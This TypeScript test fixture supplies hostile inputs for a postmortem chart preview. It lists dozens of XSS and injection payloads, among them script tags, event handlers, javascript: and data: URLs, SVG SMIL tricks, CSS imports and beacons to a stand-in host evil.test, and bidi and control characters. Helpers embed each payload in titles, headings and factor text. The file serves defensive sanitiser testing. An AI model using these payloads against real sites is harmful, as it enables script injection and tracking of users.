/**
 * Hostile input for the preview: payloads that have broken previews and SVG renderers elsewhere (script
 * tags, event handlers, javascript:/data: URLs, SVG foreignObject/use/SMIL, CSS url()/@import, breakouts,
 * meta refresh, bidi overrides, NUL, huge labels), and documents that put each payload into every field
 * the chart reads: the front matter title, the H1, layer names (bold prefix and sub-heading) and factor text.
 */

export const payloads: readonly string[] = [
	'<script>window.__pwned=1</script>',
	'<script src="https://evil.test/x.js"></script>',
	'<img src=x onerror="window.__pwned=1">',
	'<img src="https://evil.test/beacon.png">',
	'![beacon](https://evil.test/beacon.png)',
	'<svg onload="window.__pwned=1"></svg>',
	'<svg><script>window.__pwned=1</script></svg>',
	'"><script>window.__pwned=1</script>',
	"'><img src=x onerror=alert(1)>",
	'" onmouseover="window.__pwned=1" x="',
	"' onfocus='window.__pwned=1' autofocus tabindex='1",
	'</title><script>window.__pwned=1</script>',
	'</desc><script>alert(1)</script>',
	'</text></svg><script>window.__pwned=1</script>',
	'</tspan><foreignObject><body onload="window.__pwned=1"></body></foreignObject>',
	'<foreignObject width="100" height="100"><iframe src="javascript:window.top.__pwned=1"></iframe></foreignObject>',
	'<use href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"/>',
	'<use xlink:href="https://evil.test/sprite.svg#x"/>',
	'<animate onbegin="window.__pwned=1" attributeName="x" dur="1s"/>',
	'<set attributeName="onmouseover" to="alert(1)"/>',
	'<animate attributeName="href" values="javascript:alert(1)"/>',
	'<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>X</text></a></svg>',
	'<a href="javascript:window.__pwned=1">click</a>',
	'[click me](javascript:window.__pwned=1)',
	'<a xlink:href="javascript:alert(1)"><text>x</text></a>',
	'<iframe src="data:text/html,<script>parent.__pwned=1</script>"></iframe>',
	'<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
	'<embed src="javascript:alert(1)">',
	'<style>@import url(https://evil.test/x.css);</style>',
	'<style>*{background:url(https://evil.test/beacon)}</style>',
	'<div style="background:url(https://evil.test/beacon)">x</div>',
	'<link rel=stylesheet href="https://evil.test/x.css">',
	'<meta http-equiv="refresh" content="0;url=https://evil.test/">',
	'<meta http-equiv="Content-Security-Policy" content="script-src * \'unsafe-inline\'">',
	'<base href="https://evil.test/">',
	'<form action="https://evil.test/"><button>go</button></form>',
	'<details open ontoggle="window.__pwned=1">',
	'<input autofocus onfocus=alert(1)>',
	'<body onload=alert(1)>',
	'<video><source onerror="alert(1)"></video>',
	'<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
	'<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
	'<!--<img src="--><img src=x onerror=alert(1)//">',
	'<![CDATA[<script>alert(1)</script>]]>',
	']]><script>alert(1)</script>',
	'&lt;script&gt;alert(1)&lt;/script&gt; &#x3C;img src=x onerror=alert(1)&#x3E; &amp;',
	'<x:script xmlns:x="http://www.w3.org/1999/xhtml">window.__pwned=1</x:script>',
	'<image href="https://evil.test/i.png"/>',
	'<feImage href="https://evil.test/"/>',
	'<svg><style>@import "https://evil.test/x.css";</style></svg>',
	'javascript:window.__pwned=1',
	'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
	'url(javascript:alert(1)) expression(alert(1))',
	"{{constructor.constructor('window.__pwned=1')()}}",
	'${window.__pwned=1}',
	'Deploy \u202Etxt.exe\u202C went out',
	'\u2066\u2067isolated\u2069 text \u200F',
	'a\u0000b NUL inside',
	'controls \u0001\u0008\u000B\u000C\u001B[31m red \u007F\u0085',
	'lone \uD800 surrogates \uDFFF here',
	'non-characters \uFFFE\uFFFF',
	'A'.repeat(100_000),
	'word '.repeat(20_000),
	'💥🧀 障害 عطل في النشر',
	'He said "<b>hi</b>" & \'left\' > right',
];

/** YAML double-quoted scalar: JSON's escaping is valid YAML. */
function yamlString(text: string): string {
	return JSON.stringify(text);
}

/** A layer name that the bold-prefix form accepts (no `*`, `_`, `:`, newline; at most 40 characters). */
function prefixLayer(text: string): string {
	const cleaned = text.replace(/[*_:\r\n]/g, ' ').trim().slice(0, 38).trim();
	return cleaned === '' ? 'Hostile' : cleaned;
}

/** Payload on one line (a heading or a list item must not be split). */
function oneLine(text: string): string {
	return text.replace(/[\r\n]/g, ' ');
}

/** Shape A: front matter title, bold-prefix layer, factor text. */
export function prefixDocument(payload: string): string {
	return [
		'---',
		`title: ${yamlString(payload)}`,
		'type: postmortem',
		'---',
		'',
		'## Contributing factors',
		'',
		`- **${prefixLayer(payload)}**: ${oneLine(payload)}`,
		`- **Testing**: ${oneLine(payload)}`,
		'',
	].join('\n');
}

/**
 * Shape B: H1 title, sub-heading layers, factor text. Factor text starts with a word: a list item that
 * starts with a tag is an HTML block, which the model (rightly) never reads as prose.
 */
export function subHeadingDocument(payload: string): string {
	return [
		`# ${oneLine(payload)}`,
		'',
		'## Contributing factors',
		'',
		`### ${oneLine(payload)}`,
		'',
		`- Because ${oneLine(payload)}`,
		'',
		'### Alerting',
		'',
		`- Because ${oneLine(payload)}`,
		'',
	].join('\n');
}

/** Shape C: an unquoted front matter value with quotes and angle brackets, and a paragraph factor. */
export function paragraphDocument(payload: string): string {
	return [
		'---',
		`title: He said "<b>" & it's <script>`,
		'---',
		'',
		'## Root causes',
		'',
		`Because ${oneLine(payload)}`,
		'',
	].join('\n');
}

export function hostileDocuments(): { name: string; text: string }[] {
	const documents: { name: string; text: string }[] = [];
	payloads.forEach((payload, index) => {
		documents.push({ name: `A${index}`, text: prefixDocument(payload) }, { name: `B${index}`, text: subHeadingDocument(payload) });
		if (index % 3 === 0) {
			documents.push({ name: `C${index}`, text: paragraphDocument(payload) });
		}
	});
	return documents;
}
